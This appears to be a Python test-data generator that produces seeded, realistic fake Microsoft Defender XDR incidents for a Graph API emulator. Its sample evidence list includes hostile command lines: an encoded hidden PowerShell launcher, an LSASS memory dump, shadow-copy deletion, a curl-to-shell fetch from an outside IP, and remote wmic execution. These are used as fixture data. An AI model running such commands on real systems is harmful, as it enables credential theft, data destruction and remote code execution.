"""Seeded, realistic Defender XDR incidents for the Graph emulator (tests, demo, benchmark).

Everything comes from ``random.Random(seed)``: the same seed, tenant and time window give the same incidents.
What the data covers, on purpose:

- every incident status (``active``, ``inProgress``, ``resolved``, ``redirected`` with ``redirectIncidentId``,
  ``awaitingAction``), every severity, classification and (valid) determination pair;
- Graph's evidence shapes: ``deviceEvidence`` (mdeDeviceId, deviceDnsName, ...), ``userEvidence`` (userAccount with
  accountName, domainName, userSid, azureAdUserId, userPrincipalName), ``ipEvidence``, ``urlEvidence``,
  ``fileEvidence`` (fileDetails with fileName, filePath, sha1, sha256, md5), ``processEvidence`` (processId,
  processCommandLine, imageFile, userAccount), ``mailboxEvidence``, ``analyzedMessageEvidence``,
  ``registryKeyEvidence``, ``registryValueEvidence``, ``cloudApplicationEvidence``, ``mailClusterEvidence``,
  ``securityGroupEvidence``, ``cloudLogonSessionEvidence``;
- unicode titles, comments, tags and names (CJK, emoji, right-to-left scripts), null and empty optional fields;
- groups of incidents with EQUAL ``lastUpdateDateTime``, incidents with hundreds of alerts, comments, customTags,
  ``assignedTo``, and (profile ``realistic``) rare huge values over 64 KB.

:func:`generate_incidents` is a lazy generator: it keeps only a few recent IDs, so it can stream 100,000 incidents
into :meth:`emulators.graph.GraphState.add_incidents` (which stores them compressed).
"""

from __future__ import annotations

import random
from collections import deque
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from .graph import format_ticks as _fmt
from .graph import to_ticks as _ticks

TICKS = 10_000_000
_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)


@dataclass(frozen=True)
class Profile:
    """Size knobs of generated data."""

    alerts: tuple[int, int]          # alerts per normal incident (inclusive range)
    evidence: tuple[int, int]        # evidence per alert
    big_rate: float                  # share of incidents with hundreds of alerts
    big_alerts: tuple[int, int]
    tie_rate: float                  # share of incidents that start a group with equal lastUpdateDateTime
    redirect_rate: float
    huge_rate: float                 # share with a value over 64 KB (description / command line)
    comments: tuple[int, int]


PROFILES: dict[str, Profile] = {
    "realistic": Profile((1, 6), (1, 6), 0.03, (150, 400), 0.08, 0.05, 0.01, (0, 4)),
    "small": Profile((1, 2), (1, 3), 0.0, (0, 0), 0.1, 0.05, 0.0, (0, 2)),
    "bench": Profile((1, 3), (1, 3), 0.0005, (150, 250), 0.05, 0.03, 0.0, (0, 2)),
}


@dataclass(frozen=True)
class TenantSpec:
    """A generated customer tenant."""

    tenant_id: str
    name: str
    domain: str


_TENANT_NAMES = ["Contoso", "Fabrikam", "Northwind Traders", "Tailspin Toys", "Woodgrove Bank", "Adatum",
                 "Litware", "Proseware", "株式会社サンプル", "Müller & Söhne GmbH", "شركة الأمل",
                 "Wide World Importers"]
_PEOPLE = [("alex.wilber", "Alex Wilber"), ("megan.bowen", "Megan Bowen"), ("li.lei", "李雷"),
           ("han.meimei", "韩梅梅"), ("zoe.angstrom", "Zoë Ångström"), ("mohammed.ali", "محمد علي"),
           ("yael.cohen", "יעל כהן"), ("soren.k", "Søren Kierkegaard"), ("juergen.mueller", "Jürgen Müller"),
           ("kenji.sato", "佐藤健二"), ("priya.sharma", "प्रिया शर्मा"), ("svc-backup", "Backup Service"),
           ("admin", "Global Admin"), ("diego.siciliani", "Diego Siciliani")]
_ANALYSTS = ["soc.analyst1@{d}", "tier2.lead@{d}", "kaic@{d}", "secops@mssp.example", "analyst@mssp.example"]
_DEVICES = ["WS-FIN-0231", "LAPTOP-8K2J1Q", "SRV-DC01", "SRV-SQL-02", "MAC-DESIGN-07", "工作站-07", "VM-BUILD-15",
            "KIOSK-LOBBY", "ubuntu-web-03", "DESKTOP-Ω42"]
_TITLES = [
    "Multi-stage incident involving Initial access & Command and control on one endpoint",
    "Multi-stage incident involving Execution & Discovery on multiple endpoints reported by multiple sources",
    "Ransomware activity on multiple endpoints",
    "Suspicious email sending patterns detected",
    "Email messages containing malicious URL removed after delivery",
    "Impossible travel activity involving one user",
    "Anomalous sign-in to {user} from a TOR exit node",
    "Suspicious PowerShell command line on {device}",
    "Credential access on {device} via LSASS memory dump",
    "Defender for Identity: Suspected DCSync attack (replication of directory services)",
    "可疑的 PowerShell 活動 on {device}",
    "📧 Phishing campaign targeting finance 💸",
    "نشاط مشبوه من عنوان IP خارجي",
    "חשבון משתמש חשוד: {user}",
    "Verdächtige Anmeldung \u2013 Benutzer {user}",
    "Mass download by a single user 📁⬇️",
    "",
]
_ALERT_TITLES: dict[str, list[tuple[str, str, list[str]]]] = {
    "microsoftDefenderForEndpoint": [("Suspicious PowerShell command line", "Execution", ["T1059.001"]),
                                     ("Possible credential dumping via LSASS", "CredentialAccess", ["T1003.001"]),
                                     ("Ransomware behavior detected in the file system", "Impact", ["T1486"]),
                                     ("Suspicious process injection observed", "DefenseEvasion", ["T1055"]),
                                     ("'Mimikatz' hacktool was detected", "CredentialAccess", ["T1003"])],
    "microsoftDefenderForOffice365": [("Email messages containing malicious URL removed after delivery",
                                       "InitialAccess", ["T1566.002"]),
                                      ("A potentially malicious URL click was detected", "InitialAccess",
                                       ["T1204.001"]),
                                      ("Suspicious email forwarding activity", "Exfiltration", ["T1114.003"])],
    "microsoftDefenderForIdentity": [("Suspected DCSync attack (replication of directory services)",
                                      "CredentialAccess", ["T1003.006"]),
                                     ("Suspected brute-force attack (Kerberos, NTLM)", "CredentialAccess",
                                      ["T1110"])],
    "microsoftDefenderForCloudApps": [("Impossible travel activity", "InitialAccess", ["T1078"]),
                                      ("Mass download by a single user", "Exfiltration", ["T1530"])],
    "azureAdIdentityProtection": [("Anonymous IP address", "InitialAccess", ["T1078.004"]),
                                  ("Atypical travel", "InitialAccess", [])],
    "microsoftDefenderForCloud": [("Suspicious Azure Resource Manager operation", "Execution", ["T1648"])],
    "dataLossPrevention": [("DLP policy match: credit card numbers shared externally 💳", "Exfiltration", [])],
}
_ALERT_PREFIX = {"microsoftDefenderForEndpoint": "da", "microsoftDefenderForOffice365": "fa",
                 "microsoftDefenderForIdentity": "aa", "microsoftDefenderForCloudApps": "ca",
                 "azureAdIdentityProtection": "ad", "microsoftDefenderForCloud": "dc", "dataLossPrevention": "dl"}
_DETECTION = {"microsoftDefenderForEndpoint": ["antivirus", "microsoftDefenderForEndpoint", "customDetection",
                                               "automatedInvestigation", "smartScreen"],
              "microsoftDefenderForOffice365": ["microsoftDefenderForOffice365", "automatedInvestigation"],
              "microsoftDefenderForIdentity": ["microsoftDefenderForIdentity"],
              "microsoftDefenderForCloudApps": ["cloudAppSecurity", "appGovernanceDetection"],
              "azureAdIdentityProtection": ["azureAdIdentityProtection"],
              "microsoftDefenderForCloud": ["microsoftDefenderForCloud", "microsoftDefenderForServers"],
              "dataLossPrevention": ["microsoftDataLossPrevention"]}
_PAIRS = {
    "truePositive": ["multiStagedAttack", "maliciousUserActivity", "compromisedAccount", "malware", "phishing",
                     "unwantedSoftware", "other"],
    "informationalExpectedActivity": ["securityTesting", "lineOfBusinessApplication", "confirmedActivity", "other"],
    "falsePositive": ["notMalicious", "notEnoughDataToValidate", "other"],
    "unknown": ["unknown"],
}
_COMMENTS = [
    "Investigating — 調査中 🔍", "Escalated to Tier 2.", "تم التحقق من الحادث وإغلاقه", "בבדיקה מול הלקוח",
    "False alarm: scheduled pen-test by the red team 🛡️", "User confirmed travel to 東京; closing.",
    "Isolated the device and reset the password.", "Customer notified via ticket #48213 ✅",
    "Ζητήθηκε επιβεβαίωση από τον χρήστη.", "Line one\nLine two with \"quotes\" and \\backslashes\\ and <b>html</b>",
]
_TAGS = ["Demo", "VIP", "PenTest", "顧客A", "🔥 hot", "Finance", "ransomware-playbook", "Ürgent", "تصعيد", "tier:2"]
_IPS = ["185.220.101.4", "45.155.205.233", "10.1.4.22", "2001:db8::4f2a", "203.0.113.77", "198.51.100.14"]
_URLS = ["http://login-micros0ft.example/owa/auth.php?id=Zm9vYmFy", "https://bit.example/3xYz",
         "https://files.example/invoice_2026.zip", "https://例え.テスト/パス?q=✓"]
_FILES = [("invoice_2026.docm", "C:\\Users\\{u}\\Downloads"), ("mimikatz.exe", "C:\\Windows\\Temp"),
          ("payload.ps1", "C:\\ProgramData\\Microsoft\\Crypto"), ("ransom_note_читай.txt", "C:\\Users\\Public"),
          ("svch0st.exe", "C:\\Windows\\System32\\Tasks"), ("libcrypt.so.1", "/tmp/.x")]
_COMMANDS = ["powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp",
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
             "cmd.exe /c vssadmin delete shadows /all /quiet", "bash -c 'curl -s http://45.155.205.233/x | sh'",
             "wmic /node:SRV-DC01 process call create \"cmd /c whoami > C:\\out.txt\""]




class _Random(random.Random):
    """``random.Random`` with cheaper ``choice``/``randint`` (one ``random()`` call each; the generator makes
    millions of them for a 100,000-incident benchmark). Still fully determined by the seed."""

    def choice(self, seq: Any) -> Any:
        return seq[int(self.random() * len(seq))]

    def randint(self, a: int, b: int) -> int:
        return a + int(self.random() * (b - a + 1))


def _hex(rng: random.Random, n: int) -> str:
    return f"{rng.getrandbits(n * 4):0{n}x}"


def _guid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) & 3]}{h[17:20]}-{h[20:32]}"


def make_tenants(seed: int, count: int) -> list[TenantSpec]:
    """``count`` deterministic tenants (IDs are GUIDs from the seed; names include non-ASCII ones)."""
    rng = _Random(f"tenants/{seed}")
    specs = []
    for i in range(count):
        name = _TENANT_NAMES[i % len(_TENANT_NAMES)] + ("" if i < len(_TENANT_NAMES) else f" {i}")
        slug = "".join(c for c in name.lower() if c.isascii() and c.isalnum()) or f"tenant{i}"
        specs.append(TenantSpec(_guid(rng), name, f"{slug}{i}.onmicrosoft.com"))
    return specs


class _Gen:
    """State of one incident stream (kept small: a deque of recent IDs)."""

    def __init__(self, seed: int, tenant: TenantSpec, profile: Profile) -> None:
        self.rng = _Random(f"{seed}/{tenant.tenant_id}")
        self.tenant = tenant
        self.profile = profile
        self.recent: deque[str] = deque(maxlen=64)

    # -- people & things -------------------------------------------------------------------------------------

    def person(self) -> tuple[str, str, str]:
        account, display = self.rng.choice(_PEOPLE)
        return account, display, f"{account}@{self.tenant.domain}"

    def user_account(self) -> dict[str, Any]:
        account, display, upn = self.person()
        rng = self.rng
        return {"accountName": account, "domainName": self.tenant.domain.split(".")[0].upper(),
                "userSid": f"S-1-5-21-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**9, 4 * 10**9)}-"
                           f"{rng.randint(10**8, 10**9)}-{rng.randint(1000, 99999)}",
                "azureAdUserId": _guid(rng), "userPrincipalName": upn, "displayName": display}

    # -- evidence --------------------------------------------------------------------------------------------

    def evidence(self, created: int, huge: bool) -> dict[str, Any]:
        rng = self.rng
        kind = rng.choice(("deviceEvidence", "userEvidence", "ipEvidence", "urlEvidence", "fileEvidence",
                           "processEvidence", "processEvidence", "mailboxEvidence", "analyzedMessageEvidence",
                           "registryKeyEvidence", "registryValueEvidence", "cloudApplicationEvidence",
                           "mailClusterEvidence", "securityGroupEvidence", "cloudLogonSessionEvidence"))
        base: dict[str, Any] = {
            "@odata.type": f"#microsoft.graph.security.{kind}",
            "createdDateTime": _fmt(created),
            "verdict": rng.choice(("unknown", "suspicious", "malicious", "noThreatsFound")),
            "remediationStatus": rng.choice(("none", "remediated", "prevented", "blocked", "notFound")),
            "remediationStatusDetails": rng.choice((None, "", "Quarantined by Microsoft Defender Antivirus")),
            "roles": rng.sample(["contextual", "source", "destination", "compromised", "attacker", "suspicious"],
                                rng.randint(0, 2)),
            "detailedRoles": rng.choice(([], ["PrimaryDevice"], ["Sender"])),
            "tags": rng.choice(([], ["Demo"], ["攻撃者"], ["🔥"])),
        }
        device_id = _hex(rng, 40)
        if kind == "deviceEvidence":
            name = rng.choice(_DEVICES)
            base.update({"mdeDeviceId": device_id, "azureAdDeviceId": rng.choice((None, _guid(rng))),
                         "deviceDnsName": f"{name.lower()}.{self.tenant.domain}",
                         "hostName": name, "ntDomain": None, "dnsDomain": self.tenant.domain,
                         "osPlatform": rng.choice(("Windows11", "Windows10", "WindowsServer2022", "macOS", "Linux")),
                         "osBuild": rng.choice((22631, 19045, 20348, None)),
                         "version": rng.choice(("23H2", "22H2", None)), "healthStatus": "active",
                         "riskScore": rng.choice(("none", "low", "medium", "high")),
                         "rbacGroupId": rng.randint(0, 50), "rbacGroupName": rng.choice(("Servers", "Finance", "")),
                         "onboardingStatus": "onboarded", "defenderAvStatus": rng.choice(("updated", "notReporting")),
                         "ipInterfaces": [rng.choice(_IPS), "127.0.0.1"],
                         "loggedOnUsers": [{"accountName": self.person()[0], "domainName": "CONTOSO"}],
                         "vmMetadata": rng.choice((None, {"vmId": _guid(rng), "cloudProvider": "azure",
                                                          "resourceId": "/subscriptions/x/vm1",
                                                          "subscriptionId": _guid(rng)}))})
        elif kind == "userEvidence":
            base["userAccount"] = self.user_account()
        elif kind == "ipEvidence":
            base.update({"ipAddress": rng.choice(_IPS), "countryLetterCode": rng.choice(("US", "NL", "RU", "JP", None)),
                         "location": rng.choice((None, {"city": "Tōkyō", "countryName": "日本"}))})
        elif kind == "urlEvidence":
            base["url"] = rng.choice(_URLS)
        elif kind in ("fileEvidence", "processEvidence"):
            fname, folder = rng.choice(_FILES)
            details = {"fileName": fname, "filePath": folder.replace("{u}", self.person()[0]),
                       "sha1": _hex(rng, 40), "sha256": _hex(rng, 64), "md5": _hex(rng, 32),
                       "fileSize": rng.choice((None, rng.randint(100, 10**8))),
                       "filePublisher": rng.choice((None, "Microsoft Corporation")), "signer": None, "issuer": None}
            if kind == "fileEvidence":
                base.update({"fileDetails": details, "mdeDeviceId": device_id,
                             "detectionStatus": rng.choice(("detected", "blocked", "prevented"))})
            else:
                command = rng.choice(_COMMANDS)
                if huge:
                    command += " " + "A" * 70_000 + " 🔚"
                base.update({"processId": rng.randint(4, 65535), "parentProcessId": rng.randint(4, 65535),
                             "processCommandLine": command, "processCreationDateTime": _fmt(created - 10 * TICKS),
                             "parentProcessCreationDateTime": _fmt(created - 3600 * TICKS),
                             "detectionStatus": "detected", "mdeDeviceId": device_id, "imageFile": details,
                             "parentProcessImageFile": {"fileName": "explorer.exe",
                                                        "filePath": "C:\\Windows", "sha1": _hex(rng, 40),
                                                        "sha256": None, "md5": None},
                             "userAccount": self.user_account()})
        elif kind == "mailboxEvidence":
            _, display, upn = self.person()
            base.update({"displayName": display, "primaryAddress": upn, "userAccount": self.user_account()})
        elif kind == "analyzedMessageEvidence":
            _, _, upn = self.person()
            base.update({"networkMessageId": _guid(rng), "internetMessageId": f"<{_hex(rng, 16)}@mail.example>",
                         "subject": rng.choice(("Invoice overdue ⚠️", "Re: 会議の件", "عرض خاص", "", None)),
                         "senderIp": rng.choice(_IPS), "recipientEmailAddress": upn,
                         "p1Sender": {"emailAddress": "billing@login-micros0ft.example", "displayName": "Billing"},
                         "p2Sender": {"emailAddress": "billing@login-micros0ft.example", "displayName": None},
                         "deliveryAction": rng.choice(("delivered", "junked", "blocked")),
                         "deliveryLocation": rng.choice(("inbox", "junkFolder", "quarantine")),
                         "urls": [rng.choice(_URLS)], "urlCount": 1, "attachmentsCount": rng.randint(0, 3),
                         "language": rng.choice(("en", "ja", "ar")), "antiSpamDirection": "inbound",
                         "threatDetectionMethods": ["urlDetonation"], "threats": ["Phish"],
                         "receivedDateTime": _fmt(created - 600 * TICKS)})
        elif kind == "registryKeyEvidence":
            base.update({"registryKey": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                         "registryHive": "HKEY_LOCAL_MACHINE"})
        elif kind == "registryValueEvidence":
            base.update({"registryKey": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                         "registryHive": "HKEY_CURRENT_USER", "registryValue": "C:\\ProgramData\\svch0st.exe",
                         "registryValueName": "Updater", "registryValueType": "String", "mdeDeviceId": device_id})
        elif kind == "cloudApplicationEvidence":
            base.update({"appId": rng.randint(10000, 99999), "displayName": rng.choice(("Dropbox", "Box", "网盘")),
                         "instanceId": 0, "instanceName": rng.choice(("Dropbox", "")), "saasAppId": rng.randint(1, 9)})
        elif kind == "mailClusterEvidence":
            base.update({"clusterBy": "Subject;SenderIp", "clusterByValue": "Invoice overdue;185.220.101.4",
                         "emailCount": rng.randint(2, 500), "query": "(Subject:\"Invoice overdue\")",
                         "networkMessageIds": [_guid(rng) for _ in range(2)]})
        elif kind == "securityGroupEvidence":
            base.update({"securityGroupId": _guid(rng), "displayName": rng.choice(("Domain Admins", "財務部"))})
        else:
            base.update({"sessionId": _guid(rng), "account": self.user_account(),
                         "browser": rng.choice(("Edge 126", None)), "operatingSystem": "Windows 11",
                         "startUtcDateTime": _fmt(created - 900 * TICKS), "userAgent": "Mozilla/5.0"})
        return base

    # -- alerts ----------------------------------------------------------------------------------------------

    def alert(self, incident_id: str, incident_updated: int, created_floor: int, status: str, cls: str, det: str,
              huge: bool) -> dict[str, Any]:
        rng = self.rng
        source = rng.choice(list(_ALERT_TITLES))
        title, category, techniques = rng.choice(_ALERT_TITLES[source])
        prefix = _ALERT_PREFIX[source]
        alert_id = (f"{prefix}{rng.randint(10**17, 10**18 - 1)}_{rng.randint(-(2**31), 2**31 - 1)}"
                    if prefix == "da" else f"{prefix}{_hex(rng, 32)}")
        created = rng.randint(created_floor, incident_updated)
        updated = rng.randint(created, incident_updated)
        p = self.profile
        evidence = [self.evidence(created, huge and i == 0) for i in range(rng.randint(*p.evidence))]
        resolved = status == "resolved"
        account, _, upn = self.person()
        return {
            "id": alert_id, "providerAlertId": alert_id if prefix != "da" else alert_id[2:], "incidentId": incident_id,
            "status": "resolved" if resolved else rng.choice(("new", "new", "inProgress")),
            "severity": rng.choice(("low", "medium", "high", "informational")),
            "classification": cls if resolved else None, "determination": det if resolved else None,
            "serviceSource": source, "detectionSource": rng.choice(_DETECTION[source]),
            "detectorId": _guid(rng), "tenantId": self.tenant.tenant_id, "title": title,
            "description": rng.choice((f"{title} on a device used by {account}.", None, "")),
            "recommendedActions": rng.choice(("1. Contact the user.\n2. Isolate the device.", None)),
            "category": category, "assignedTo": rng.choice((None, upn)),
            "alertWebUrl": f"https://security.microsoft.com/alerts/{alert_id}?tid={self.tenant.tenant_id}",
            "incidentWebUrl": f"https://security.microsoft.com/incidents/{incident_id}?tid={self.tenant.tenant_id}",
            "actorDisplayName": rng.choice((None, None, "Storm-0501", "Octo Tempest")),
            "threatDisplayName": rng.choice((None, "Mimikatz", "Raspberry Robin")),
            "threatFamilyName": rng.choice((None, "Mimikatz", "Qakbot")), "mitreTechniques": techniques,
            "createdDateTime": _fmt(created), "lastUpdateDateTime": _fmt(updated),
            "resolvedDateTime": _fmt(updated) if resolved else None,
            "firstActivityDateTime": _fmt(created - rng.randint(60, 86400) * TICKS),
            "lastActivityDateTime": _fmt(created - rng.randint(0, 59) * TICKS),
            "comments": [], "evidence": evidence, "systemTags": rng.choice(([], ["Defender Experts"])),
            "additionalData": rng.choice(({}, {"RuleName": "Custom detection ☢️", "Count": 3})),
            "alertPolicyId": rng.choice((None, _guid(rng))),
            "customDetails": rng.choice(({}, {"ProcessCount": "12", "Reason": "外部送信"})),
            "investigationState": rng.choice(("unknown", "running", "successfullyRemediated", "benign",
                                              "pendingApproval", "terminatedBySystem")),
            "productName": {"microsoftDefenderForEndpoint": "Microsoft Defender for Endpoint",
                            "microsoftDefenderForOffice365": "Microsoft Defender for Office 365",
                            "microsoftDefenderForIdentity": "Microsoft Defender for Identity",
                            "microsoftDefenderForCloudApps": "Microsoft Defender for Cloud Apps",
                            "azureAdIdentityProtection": "Microsoft Entra ID Protection",
                            "microsoftDefenderForCloud": "Microsoft Defender for Cloud",
                            "dataLossPrevention": "Microsoft Purview Data Loss Prevention"}[source],
        }

    # -- incidents -------------------------------------------------------------------------------------------

    def incident(self, incident_id: str, created: int, updated: int) -> dict[str, Any]:
        rng = self.rng
        p = self.profile
        roll = rng.random()
        if roll < p.redirect_rate and self.recent:
            status = "redirected"
        else:
            status = rng.choices(("active", "inProgress", "resolved", "awaitingAction"), (40, 20, 35, 5))[0]
        if status == "resolved":
            cls = rng.choices(("truePositive", "falsePositive", "informationalExpectedActivity", "unknown"),
                              (45, 25, 20, 10))[0]
        else:
            cls = rng.choices(("unknown", "truePositive", "falsePositive"), (85, 10, 5))[0]
        det = rng.choice(_PAIRS[cls])
        huge = rng.random() < p.huge_rate
        _, display, upn = self.person()
        _, _, other_upn = self.person()
        title = rng.choice(_TITLES).format(user=display, device=rng.choice(_DEVICES))
        n_alerts = 0 if status == "redirected" else (
            rng.randint(*p.big_alerts) if rng.random() < p.big_rate else rng.randint(*p.alerts))
        created_floor = created - 3600 * TICKS
        alerts = [self.alert(incident_id, updated, created_floor, status, cls, det, huge and i == 0)
                  for i in range(n_alerts)]
        comments = []
        for _ in range(rng.randint(*p.comments)):
            text = rng.choice(_COMMENTS)
            if rng.random() < 0.05:
                text = (text + " ") * 200
            comments.append({"@odata.type": "#microsoft.graph.security.alertComment", "comment": text,
                             "createdByDisplayName": rng.choice((upn, "Automation", "Microsoft Defender Experts")),
                             "createdDateTime": _fmt(rng.randint(created, updated))})
        comments.sort(key=lambda c: c["createdDateTime"])
        description = rng.choice((None, "", f"{title}. Microsoft observed activity consistent with {det}.",
                                  "<p>HTML <b>description</b> with a <a href='https://example.com'>link</a> ✓</p>"))
        if huge:
            description = "Ⓗ" * 30_000  # 90,000 UTF-8 bytes
        tenant = self.tenant.tenant_id
        incident = {
            "id": incident_id, "tenantId": tenant, "displayName": title, "description": description,
            "summary": rng.choice((None, "An attacker gained initial access via phishing 🎣 and moved laterally.")),
            "createdDateTime": _fmt(created), "lastUpdateDateTime": _fmt(updated), "status": status,
            "severity": rng.choices(("high", "medium", "low", "informational", "unknown"), (20, 40, 25, 10, 5))[0],
            "classification": cls, "determination": det,
            "assignedTo": rng.choices((None, upn, other_upn, rng.choice(_ANALYSTS).format(d=self.tenant.domain)),
                                      (40, 25, 10, 25))[0],
            "customTags": rng.sample(_TAGS, rng.choices((0, 1, 2, 3), (50, 25, 15, 10))[0]),
            "systemTags": rng.choice(([], [], ["Defender Experts"])), "comments": comments,
            "incidentWebUrl": f"https://security.microsoft.com/incidents/{incident_id}?tid={tenant}",
            "redirectIncidentId": rng.choice(list(self.recent)) if status == "redirected" else None,
            "resolvingComment": (rng.choice((None, "Closed after review ✔", "問題なし"))
                                 if status == "resolved" else None),
            "lastModifiedBy": rng.choice((None, upn, "Automation")),
            "priorityScore": rng.choice((None, rng.randint(0, 100))),
            "alerts": alerts,
        }
        self.recent.append(incident_id)
        return incident


def generate_incidents(seed: int, tenant: TenantSpec | str, count: int, *, start: datetime | None = None,
                       end: datetime | None = None, first_id: int | None = None,
                       profile: str | Profile = "realistic") -> Iterator[dict[str, Any]]:
    """Lazily yield ``count`` incidents (Graph JSON shape, with ``alerts``) of ``tenant``, IDs ascending.

    ``createdDateTime`` grows with the ID across ``[start, end]`` (default: the last 6 days up to one minute ago, so
    they fall inside the app's default 7-day first-pull lookback); ``lastUpdateDateTime`` lies between creation and
    ``end``, with groups of 2-5 consecutive incidents sharing one value (ties). Same arguments, same output.
    """
    spec = tenant if isinstance(tenant, TenantSpec) else TenantSpec(tenant, "Tenant", "contoso.onmicrosoft.com")
    prof = PROFILES[profile] if isinstance(profile, str) else profile
    now = datetime.now(UTC).replace(microsecond=0)
    end_t = _ticks(end or now - timedelta(minutes=1))
    start_t = _ticks(start or now - timedelta(days=6))
    if end_t <= start_t:
        raise ValueError("end must be after start")
    gen = _Gen(seed, spec, prof)
    rng = gen.rng
    next_id = first_id if first_id is not None else rng.randint(1000, 90000)
    slot = max(1, (end_t - start_t) // max(count, 1))
    tie_left = 0
    tie_stamp = 0
    for i in range(count):
        created = start_t + slot * i + rng.randint(0, slot // 2)
        if tie_left > 0:
            updated = tie_stamp
            tie_left -= 1
        elif rng.random() < prof.tie_rate and i + 1 < count:
            size = rng.randint(2, 5)
            floor = min(end_t, start_t + slot * (i + size) + 1)
            tie_stamp = rng.randint(floor, end_t) if floor < end_t else end_t
            updated = tie_stamp
            tie_left = size - 1
        else:
            updated = rng.randint(created, end_t) if rng.random() < 0.7 else min(end_t, created + rng.randint(
                0, 3600 * TICKS))
        updated = max(updated, created)
        yield gen.incident(str(next_id), created, updated)
        next_id += rng.choice((1, 1, 1, 2, 3))


def seed_world(world: Any, seed: int = 7, tenants: int | list[TenantSpec] = 3, incidents_per_tenant: int = 40,
               profile: str | Profile = "realistic") -> list[TenantSpec]:
    """Add ``tenants`` (a count or specs) to ``world`` (an :class:`emulators.hub.World`) and fill each with
    generated incidents. Returns the tenant specs."""
    specs = make_tenants(seed, tenants) if isinstance(tenants, int) else list(tenants)
    for spec in specs:
        world.add_tenant(spec.tenant_id, spec.name, spec.domain)
        world.graph.add_incidents(spec.tenant_id, generate_incidents(seed, spec, incidents_per_tenant,
                                                                     profile=profile))
    return specs
